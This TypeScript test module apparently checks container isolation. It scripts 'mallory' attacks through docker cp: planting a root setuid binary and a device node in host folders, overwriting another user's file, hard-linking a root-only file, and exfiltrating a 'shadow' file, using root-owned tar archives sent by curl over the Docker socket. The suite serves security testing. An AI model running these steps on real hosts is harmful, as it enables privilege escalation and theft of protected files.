/**
 * What a user tries with docker cp, whose archives the engine itself reads and writes as the host's root. All of it
 * succeeds on plain dockerd, with a running container and with a stopped one.
 */
import { existsSync, linkSync, lstatSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { mustRun } from '../../src/engine/embedded/command.js';
import { type Attack, secret } from './entering-attacks.js';
import { folderOf, isRootSetuid } from './traces.js';
import type { World } from './world.js';

type State = 'running' | 'stopped';

/** A container of mallory's with a bind. */
async function container(world: World, state: State, bind: string): Promise<string> {
  const made = ['create', '--network', 'none', '-v', bind, 'busybox', 'sleep', '1000000'];
  const id = await world.mallory.must(world.cli, ...made);
  if (state === 'running') await world.mallory.must(world.cli, 'start', id);
  return id;
}

/** Sends an archive to a container's folder as mallory: entries that no user could make, all of them root's. */
async function put(world: World, id: string, path: string): Promise<void> {
  const source = join(world.base, 'archive');
  mkdirSync(join(source, 'folder'), { recursive: true });
  writeFileSync(join(source, 'tool'), '#!/bin/sh\n');
  writeFileSync(join(source, 'page'), 'owned\n');
  await mustRun('chmod', ['4755', join(source, 'tool')]);
  if (!existsSync(join(source, 'memory'))) await mustRun('mknod', [join(source, 'memory'), 'c', '1', '1']);
  const archive = join(world.base, 'archive.tar');
  const entries = ['tool', 'memory', 'page'];
  await mustRun('tar', ['-C', source, '--owner=0', '--group=0', '-cf', archive, ...entries]);
  const url = `http://docker/v1.41/containers/${id}/archive?path=${path}`;
  await world.mallory.run('curl', ['--silent', '--unix-socket', world.cli.socket, '-T', archive, url]);
}

function copying(state: State): readonly Attack[] {
  return [
    {
      name: `docker cp a setuid program into a host folder (${state})`,
      run: async (world) => {
        const folder = await folderOf(world.mallory, `cp-setuid-${state}`);
        await put(world, await container(world, state, `${folder}:/w`), '/w');
        return isRootSetuid(join(folder, 'tool'));
      },
    },
    {
      name: `docker cp a device into a host folder (${state})`,
      run: async (world) => {
        const folder = await folderOf(world.mallory, `cp-device-${state}`);
        await put(world, await container(world, state, `${folder}:/w`), '/w');
        return lstatSync(join(folder, 'memory'), { throwIfNoEntry: false })?.isCharacterDevice() === true;
      },
    },
    {
      name: `docker cp over another user’s file (${state})`,
      run: async (world) => {
        const folder = await folderOf(world.victim, `cp-over-${state}`);
        await world.victim.shell(`echo mine > cp-over-${state}/page`);
        const made = ['create', '--network=none', '-v', `${folder}:/w`, 'busybox', 'sleep', '1000000'];
        const id = (await world.as(world.mallory, ...made)).stdout.trim();
        if (state === 'running') await world.as(world.mallory, 'start', id);
        await put(world, id, '/w');
        return readFileSync(join(folder, 'page'), 'utf8') === 'owned\n';
      },
    },
    {
      name: `give a root-only file a second name by docker cp (${state})`,
      run: async (world) => {
        const id = await container(world, state, `${world.system}:/s`);
        const folder = join(world.base, `second-${state}`);
        mkdirSync(folder, { recursive: true });
        const [archive, file] = [join(folder, 'links.tar'), join(folder, 'shadow')];
        writeFileSync(file, '');
        linkSync(file, join(folder, `second-${state}`));
        await mustRun('tar', ['-C', folder, '-cf', archive, 'shadow', `second-${state}`]);
        // The link alone: what it leads to is there already.
        await mustRun('tar', ['--delete', '-f', archive, 'shadow']);
        const url = `http://docker/v1.41/containers/${id}/archive?path=/s`;
        await world.mallory.run('curl', ['--silent', '--unix-socket', world.cli.socket, '-T', archive, url]);
        return existsSync(join(world.system, `second-${state}`));
      },
    },
    {
      name: `docker cp a root-only file out (${state})`,
      run: async (world) => {
        const id = await container(world, state, `${world.system}:/s`);
        const stolen = join(world.mallory.home, `stolen-${state}`);
        await world.as(world.mallory, 'cp', `${id}:/s/shadow`, stolen);
        return existsSync(stolen) && readFileSync(stolen, 'utf8').includes(secret);
      },
    },
  ];
}

export const copyingAttacks: readonly Attack[] = [...copying('running'), ...copying('stopped')];
